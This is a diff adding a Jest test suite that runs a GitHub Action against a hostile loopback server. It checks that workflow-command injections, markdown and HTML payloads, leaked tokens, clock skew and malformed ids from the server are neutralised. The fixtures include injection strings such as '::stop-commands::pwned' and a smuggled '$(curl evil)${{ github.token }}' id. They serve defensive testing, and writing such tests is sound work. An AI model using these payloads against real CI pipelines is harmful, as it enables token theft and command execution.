@@ -1,0 +1,344 @@
+/**
+ * Hostile answers: whatever the server sends is data, never a command. A hostile Flow Service on
+ * loopback (one server, a hook per route) against the bundled action run as a runner runs it,
+ * each class with debug logging off and on: workflow-command injection, a duplicate after a cut
+ * 2xx, pauses that hang, unbounded listings, secrets reshaped before redaction, short secrets,
+ * a skewed server clock steering reconciliation, and ids that are not ids.
+ */
+import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
+import { randomUUID } from 'node:crypto'
+import { runAction, type ActionRun } from '../../sim/run-action.js'
+import { HostileServer, json, leakedForms } from '../helpers/hostile.js'
+
+let server: HostileServer
+beforeEach(async () => {
+  server = await new HostileServer().start()
+})
+afterEach(() => server.stop())
+
+/** No line of the log starts with a command the server wrote, and the summary holds no markup of its own. */
+function expectNoInjection(run: ActionRun): void {
+  for (const line of run.stdout.split('\n'))
+    expect(line).not.toMatch(/^::[a-z-]+(?: [^:]*)?::(?:INJECTED|stop|pwned)/)
+  expect(run.stdout).not.toMatch(/^::stop-commands::/m)
+  expect(run.summary).not.toMatch(/^#+ INJECTED/m)
+  expect(run.summary).not.toMatch(/\]\(https:\/\/evil/)
+  expect(run.summary).not.toMatch(/(?<!\\)<(img|script)/i)
+}
+
+/** The given secrets appear nowhere but on `::add-mask::` lines, in no transformed form either. */
+function expectNoLeak(run: ActionRun, secrets: string[]): void {
+  const places = {
+    stdout: run.stdout
+      .split('\n')
+      .filter(l => !l.startsWith('::add-mask::'))
+      .join('\n'),
+    stderr: run.stderr,
+    summary: run.summary,
+    outputs: JSON.stringify(run.outputs)
+  }
+  for (const secret of secrets)
+    for (const form of leakedForms(secret))
+      for (const [place, text] of Object.entries(places))
+        if (text.includes(form)) throw new Error(`${form} (a form of a secret) leaked in ${place}`)
+}
+
+describe.each([
+  ['debug off', {}],
+  ['debug on', { RUNNER_DEBUG: '1' }]
+])('hostile answers (%s)', (_mode, env: Record<string, string>) => {
+  const action = (inputs: Record<string, string> = {}, extraEnv: Record<string, string> = {}) =>
+    runAction(server.inputs(inputs), { env: { ...env, ...extraEnv }, timeoutMs: 30_000 })
+
+  describe('workflow-command injection', () => {
+    it('through the POST answer (id, etag): nothing injected, nothing resent', async () => {
+      server.hooks.retrigger = (_req, res) =>
+        json(res, 200, {
+          id: `${randomUUID()}\n::error::INJECTED-id`,
+          etag: '"x"\r\n::add-mask::INJECTED-etag'
+        })
+      const run = await action()
+      expectNoInjection(run)
+      expect(server.hits.retrigger).toBe(1)
+      expect(run.code).toBe(1)
+      expect(run.errors.join('\n')).toMatch(
+        /no valid run id.*may or may not have been re-triggered/s
+      )
+    })
+
+    it("through a run's errors, status and flow id, in log and summary", async () => {
+      server.hooks.getRun = (_req, res) =>
+        json(res, 200, {
+          items: [
+            server.run({
+              flowId: `${server.flowId}\n::error::INJECTED-flow`,
+              metrics: {
+                statusSummary: {
+                  status: 'failed',
+                  errors: [
+                    {
+                      code: 'X\n::stop-commands::pwned',
+                      message:
+                        'row 7: "\r\n::error::INJECTED-msg\n## INJECTED heading [click](https://evil.example) <img src=x>'
+                    }
+                  ]
+                },
+                recordSummary: { outputRecordCount: 0 }
+              }
+            })
+          ]
+        })
+      const run = await action()
+      expectNoInjection(run)
+      expect(run.code).toBe(0)
+      expect(run.summary).toContain('INJECTED heading') // shown, as text
+    })
+
+    it('through a status that carries markdown: shown as text, refused', async () => {
+      server.hooks.getRun = (_req, res) =>
+        json(res, 200, {
+          items: [
+            server.run({
+              metrics: { statusSummary: { status: 'weird\n## INJECTED [x](https://evil.example)' } }
+            })
+          ]
+        })
+      const run = await action()
+      expectNoInjection(run)
+      expect(server.hits.retrigger).toBe(0)
+      expect(run.code).toBe(1)
+    })
+  })
+
+  describe('a 2xx status line seen means Adobe acted', () => {
+    it('201 and half a body, then the connection drops, the listing lags: never a second POST', async () => {
+      server.hooks.retrigger = (req, res) => {
+        server.created.length = 0 // the listing lags: the new run is not shown
+        res.writeHead(201, { 'content-type': 'application/json', 'content-length': '80' })
+        res.write('{"id":"')
+        setTimeout(() => req.socket.destroy(), 20)
+      }
+      const run = await action()
+      expect(server.hits.retrigger).toBe(1)
+      expect(run.code).toBe(1)
+      expect(run.errors.join('\n')).toMatch(/HTTP 201, then .*Adobe accepted the request/s)
+    })
+
+    it('200 with a body trickled past request-timeout: never a second POST', async () => {
+      server.hooks.retrigger = (_req, res) => {
+        res.writeHead(200, { 'content-type': 'application/json' })
+        const timer = setInterval(() => res.write(' '), 200)
+        res.on('close', () => clearInterval(timer))
+      }
+      const run = await action()
+      expect(server.hits.retrigger).toBe(1)
+      expect(run.code).toBe(1)
+    })
+  })
+
+  describe('pauses are bounded by the budget they belong to', () => {
+    it('a Retry-After of an hour fails that run at once and does not hold the next one', async () => {
+      const [a, b] = [randomUUID(), randomUUID()]
+      let posts = 0
+      server.hooks.retrigger = (req, res, url) =>
+        ++posts === 1
+          ? json(res, 429, { title: 'slow down' }, { 'retry-after': '3600' })
+          : server.defaults.retrigger(req, res, url)
+      const run = await action({ 'run-id': `${a},${b}`, concurrency: '1' })
+      expect(run.durationMs).toBeLessThan(8000)
+      expect(server.hits.retrigger).toBe(2)
+      const results = JSON.parse(run.outputs.results)
+      expect(results[0].error).toMatch(/beyond the retry budget/)
+      expect(results[1].state).toBe('retriggered')
+    })
+
+    it('a Retry-After while waiting never holds the step past wait-timeout + one request timeout', async () => {
+      let reads = 0
+      server.hooks.getRun = (req, res, url) =>
+        ++reads === 1
+          ? server.defaults.getRun(req, res, url)
+          : json(res, 429, {}, { 'retry-after': '3600' })
+      const run = await action({ wait: 'true', 'poll-interval': '200ms', 'wait-timeout': '2s' })
+      expect(run.durationMs).toBeLessThan(2000 + 1000 + 2500)
+      expect(run.outputs.status).toBe('timeout')
+    })
+
+    it('a Retry-After date in year 9999 neither overflows a timer nor spins', async () => {
+      let reads = 0
+      server.hooks.getRun = (req, res, url) =>
+        ++reads === 1
+          ? server.defaults.getRun(req, res, url)
+          : json(res, 429, {}, { 'retry-after': 'Fri, 31 Dec 9999 23:59:59 GMT' })
+      const run = await action({ wait: 'true', 'poll-interval': '200ms', 'wait-timeout': '1s' })
+      expect(run.stderr).not.toContain('TimeoutOverflowWarning')
+      expect(server.hits.getRun).toBeLessThan(20)
+      expect(run.outputs.status).toBe('timeout')
+      expect(run.durationMs).toBeLessThan(1000 + 1000 + 2500)
+    })
+  })
+
+  describe('listings are bounded in items, pages and memory', () => {
+    const lowHeap = { NODE_OPTIONS: '--max-old-space-size=150' }
+
+    it('pages of 100,000 items each, forever: fails with a clear error, writes outputs', async () => {
+      const page = JSON.stringify({
+        items: Array.from({ length: 100_000 }, () => ({})),
+        _links: { next: { href: '/runs?continuationToken=again' } }
+      })
+      server.hooks.listRuns = (_req, res) => json(res, 200, page)
+      const run = await action({ 'run-id': '', 'flow-id': server.flowId }, lowHeap)
+      expect(run.code).toBe(1)
+      expect(run.errors.join('\n')).toMatch(/more than 20000 items; narrow `lookback`/)
+      expect(run.outputs.results).toBeDefined()
+    })
+
+    it('one page of 200,000 items: no stack overflow', async () => {
+      const page = JSON.stringify({ items: Array.from({ length: 200_000 }, () => 0) })
+      server.hooks.listRuns = (_req, res) => json(res, 200, page)
+      const run = await action({ 'run-id': '', 'flow-id': server.flowId }, lowHeap)
+      expect(run.code).toBe(1)
+      expect(run.stderr).not.toMatch(/Maximum call stack/)
+      expect(run.errors.join('\n')).toMatch(/more than 20000 items/)
+    })
+
+    it('a next link forever: stops after the page limit', async () => {
+      server.hooks.listRuns = (_req, res) =>
+        json(res, 200, { items: [], _links: { next: { href: '/runs?continuationToken=more' } } })
+      const run = await action({ 'run-id': '', 'flow-id': server.flowId })
+      expect(run.code).toBe(1)
+      expect(run.errors.join('\n')).toMatch(/more than 100 pages/)
+      expect(server.hits.listRuns).toBe(100)
+    })
+  })
+
+  describe('secrets are redacted before any reshaping', () => {
+    it('a token echoed in HTML, clipped, folded, JSON-escaped and URL-encoded appears nowhere', async () => {
+      const t = server.token
+      server.hooks.getRun = (_req, res) =>
+        json(res, 200, {
+          items: [
+            server.run({
+              eTag: `"${t}"`,
+              metrics: {
+                statusSummary: {
+                  status: 'failed',
+                  errors: [{ code: 'E', message: `bad token ${t}` }]
+                },
+                recordSummary: { outputRecordCount: 0 }
+              }
+            })
+          ]
+        })
+      server.hooks.retrigger = (_req, res) => {
+        res.writeHead(400, { 'content-type': 'text/html', 'x-request-id': t })
+        res.end(
+          `<html><body>${'x'.repeat(480)} ${t.split('').join(' ')} ${t} ${encodeURIComponent(t)}</body></html>`
+        )
+      }
+      const run = await action()
+      expect(run.code).toBe(1)
+      expectNoLeak(run, [t])
+    })
+
+    it('a percent-encoded token in a next-page link is not printed by debug lines', async () => {
+      const t = server.token
+      let page = 0
+      server.hooks.listRuns = (_req, res) =>
+        json(res, 200, {
+          items: page++ === 0 ? [server.run()] : [],
+          _links:
+            page === 1 ? { next: { href: `/runs?continuationToken=${encodeURIComponent(t)}` } } : {}
+        })
+      const run = await action({ 'run-id': '', 'flow-id': server.flowId })
+      expect(run.code).toBe(0)
+      expectNoLeak(run, [t])
+    })
+  })
+
+  describe('short and URL-borne secrets', () => {
+    it('an IMS token of "-" is refused, so it never masks every hyphen of the outputs', async () => {
+      server.hooks.token = (_req, res) => json(res, 200, { access_token: '-', expires_in: 100 })
+      const inputs = server.inputs({
+        'client-id': server.apiKey,
+        'client-secret': 'hostile-secret-1'
+      })
+      delete inputs['access-token']
+      const run = await runAction(inputs, { env })
+      expect(run.code).toBe(1)
+      expect(run.errors.join('\n')).toMatch(/without a usable access_token/)
+      expect(run.stdout).not.toContain('::add-mask::-\n')
+    })
+
+    it('a password in a service URL is refused without being shown', async () => {
+      const run = await action({ 'ims-url': 'ftp://svc:PW-hostile-99@127.0.0.1:1' })
+      expect(run.code).toBe(1)
+      expect(run.stdout + run.stderr).not.toContain('PW-hostile-99')
+      expect(server.hits).toEqual({ token: 0, getRun: 0, listRuns: 0, retrigger: 0 })
+    })
+  })
+
+  describe('a skewed server clock cannot steer reconciliation', () => {
+    const dated = (offsetMs: number) => {
+      for (const route of ['getRun', 'listRuns'] as const) {
+        server.hooks[route] = (req, res, url) => {
+          res.setHeader('date', new Date(Date.now() + offsetMs).toUTCString())
+          server.defaults[route](req, res, url)
+        }
+      }
+    }
+
+    it('Date 5 minutes ahead, POST 500 after acting: the new run is adopted, no second POST', async () => {
+      dated(5 * 60_000)
+      server.hooks.retrigger = (_req, res) => {
+        server.create()
+        res.setHeader('date', new Date(Date.now() + 5 * 60_000).toUTCString())
+        json(res, 500, { title: 'oops' })
+      }
+      const run = await action()
+      expect(server.hits.retrigger).toBe(1)
+      expect(run.code).toBe(0)
+      expect(run.outputs['new-run-id']).toBe(server.created[0].id)
+    })
+
+    it('Date 10 minutes behind, an older run of ours: never taken for the new one', async () => {
+      dated(-10 * 60_000)
+      const old = server.create()
+      server.created[0].createdAt = Date.now() - 5 * 60_000
+      ;(server.created[0].metrics as Record<string, unknown>).statusSummary = { status: 'failed' }
+      let posts = 0
+      server.hooks.retrigger = (req, res, url) =>
+        ++posts === 1 ? json(res, 500, { title: 'oops' }) : server.defaults.retrigger(req, res, url)
+      const run = await action()
+      expect(run.code).toBe(0)
+      expect(run.outputs['new-run-id']).not.toBe(old)
+      expect(run.outputs['new-run-id']).toBe(server.created.at(-1)!.id)
+      expect(server.hits.retrigger).toBe(2)
+    })
+  })
+
+  describe('ids from Adobe are validated', () => {
+    it('a listed run id in upper case is re-triggered once, lower-cased', async () => {
+      server.hooks.listRuns = (_req, res) =>
+        json(res, 200, { items: [server.run({ id: server.runId.toUpperCase() })] })
+      const run = await action({ 'run-id': `${server.runId}`, 'flow-id': server.flowId })
+      expect(run.code).toBe(0)
+      expect(server.hits.retrigger).toBe(1)
+    })
+
+    it('a listed id that would steer the POST is left out; a dry run hands no such text on', async () => {
+      server.hooks.listRuns = (_req, res) =>
+        json(res, 200, {
+          items: [
+            server.run(),
+            server.run({ id: 'X/action?op=cancel#', createdAt: Date.now() }),
+            server.run({ id: '$(curl evil)${{ github.token }}', createdAt: Date.now() })
+          ]
+        })
+      const run = await action({ 'run-id': '', 'flow-id': server.flowId, 'dry-run': 'true' })
+      expect(server.hits.retrigger).toBe(0)
+      expect(run.outputs['run-ids']).toBe(`["${server.runId}"]`)
+      expect(JSON.stringify(run.outputs)).not.toMatch(/\$\(|\$\{\{|op=cancel/)
+      expect(run.warnings.join('\n')).toMatch(/left out 2 item\(s\) without a valid id/)
+    })
+  })
+})
